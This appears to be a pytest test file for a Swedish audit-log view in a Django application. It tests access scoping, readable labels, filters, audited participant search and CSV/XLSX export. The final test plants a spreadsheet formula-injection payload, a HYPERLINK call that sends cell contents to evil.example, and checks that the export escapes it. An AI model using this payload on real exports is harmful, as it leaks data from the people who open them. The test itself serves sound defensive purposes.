"""The readable audit for the controller: scope, Swedish texts, filters, participant search and
csv/xlsx export."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from django.urls import reverse

from finsam.audit.models import AuditLog
from finsam.audit.services import audit_change
from tests.conftest import PNR_MAN, PNR_WOMAN

ISO_LOCAL = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+0[12]:00$")


@pytest.fixture
def corrected(world, enrol):
    episode = enrol()
    handler = world["users"]["participant_handler"]
    audit_change(
        actor=handler,
        action="episode_correct",
        obj=episode,
        changes={
            "support_after": [0, 1 << 7],
            "exit_reason": ["", "ARB"],
            "education": [None, "GYM"],
        },
    )
    other = enrol(
        intervention=world["other_persons"], personal_number=PNR_MAN, home_municipality="0180"
    )
    audit_change(actor=handler, action="episode_correct", obj=other, changes={"sex": ["K", "M"]})
    return episode, other


def test_association_admin_sees_own_association_only(client, world, corrected):
    episode, other = corrected
    client.force_login(world["users"]["association_admin"])
    page = client.get(reverse("audit_list")).content.decode()
    assert f"Inskrivning {episode.key}" in page
    assert f"Inskrivning {other.key}" not in page
    assert "Samordningsförbundet Sundbyberg" in page
    client.force_login(world["users"]["system_admin"])
    page = client.get(reverse("audit_list")).content.decode()
    assert f"Inskrivning {other.key}" in page


@pytest.mark.parametrize("role", ["participant_handler", "board_reader", "national_analyst"])
def test_other_roles_see_no_audit(client, world, role):
    client.force_login(world["users"][role])
    assert client.get(reverse("audit_list")).status_code == 403


def test_rows_are_readable(client, world, corrected):
    from finsam.domain import codelists as cl

    client.force_login(world["users"]["association_admin"])
    page = client.get(reverse("audit_list"), {"handelse": "episode_correct"}).content.decode()
    assert "Rättade inskrivning" in page
    assert "episode_correct" not in page.split("<tbody>")[1].split("</tbody>")[0]
    assert cl.EXIT_REASON.label_of("ARB") in page
    assert "försörjning efter: – → " in page
    assert "registry.Episode" not in page
    # local time
    row = AuditLog.objects.get(action="episode_correct", association_id=world["association"].pk)
    from django.utils import timezone

    assert timezone.localtime(row.at).strftime("%Y-%m-%d %H:%M:%S") in page


def test_filters(client, world, corrected):
    episode, _ = corrected
    client.force_login(world["users"]["association_admin"])
    url = reverse("audit_list")
    today = datetime.now(UTC).date().isoformat()
    page = client.get(url, {"fran": "2000-01-01", "till": "2000-01-02"}).content.decode()
    assert "Inga händelser." in page
    page = client.get(url, {"fran": today, "till": today, "insats": world["persons"].pk}).content
    assert f"Inskrivning {episode.key}".encode() in page
    page = client.get(url, {"anvandare": "participant_handler", "handelse": "episode_enrol"})
    assert "Skrev in deltagare" in page.content.decode()
    page = client.get(url, {"fran": "2026-13-01"}).content.decode()
    assert "ÅÅÅÅ-MM-DD" in page


def test_participant_search_through_the_pseudonym_is_audited(client, world, corrected):
    episode, _ = corrected
    client.force_login(world["users"]["association_admin"])
    response = client.post(reverse("audit_list"), {"personnummer": PNR_WOMAN})
    assert response.status_code == 302
    assert f"deltagare={episode.participant_id}" in response["Location"]
    page = client.get(response["Location"]).content.decode()
    assert f"Inskrivning {episode.key}" in page and "Rättade inskrivning" in page
    search = AuditLog.objects.get(action="participant_search")
    assert search.log_type == "access" and search.object_id == str(episode.participant_id)
    assert search.actor == world["users"]["association_admin"]
    for row in AuditLog.objects.all():
        assert "0101-0009" not in f"{row.summary}{row.changes}{row.reason}"
    # an invalid number: a Swedish message, nothing searched
    page = client.post(reverse("audit_list"), {"personnummer": "19900101-0008"}).content.decode()
    assert "kontrollsiffra" in page
    assert AuditLog.objects.filter(action="participant_search").count() == 1
    # a valid number nobody has: nothing shown
    response = client.post(reverse("audit_list"), {"personnummer": "19121212-1212"})
    page = client.get(response["Location"]).content.decode()
    assert "Ingen deltagare med det personnumret" in page and "Inga händelser." in page


def test_csv_and_xlsx_export_readable_columns(client, world, corrected):
    from openpyxl import load_workbook

    client.force_login(world["users"]["association_admin"])
    response = client.get(reverse("audit_list"), {"format": "csv", "handelse": "episode_correct"})
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:5] == ["Löpnummer", "Tidpunkt", "Användare", "Typ", "Händelse"]
    assert len(rows) == 2  # own association only
    assert ISO_LOCAL.match(rows[1][1]), rows[1][1]
    assert rows[1][4] == "Rättade inskrivning"
    response = client.get(reverse("audit_list"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][1] == "Tidpunkt"
    assert all(ISO_LOCAL.match(v[1]) for v in values[1:])
    assert isinstance(values[1][0], int)
    exports = AuditLog.objects.filter(action="audit_export")
    assert exports.count() == 2 and exports.first().changes["format"] in ("csv", "xlsx")


def test_text_cannot_become_a_formula_in_the_export(client, world):
    from finsam.audit.services import audit_record

    audit_record(
        actor=None,
        log_type="change",
        action="intervention_update",
        association_id=world["association"].pk,
        summary='=HYPERLINK("http://evil.example/?x="&A1,"klick")',
    )
    client.force_login(world["users"]["association_admin"])
    text = client.get(reverse("audit_list"), {"format": "csv"}).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    response = client.get(reverse("audit_list"), {"format": "xlsx"})
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPER")]
    assert cells and all(c.data_type == "s" for c in cells)
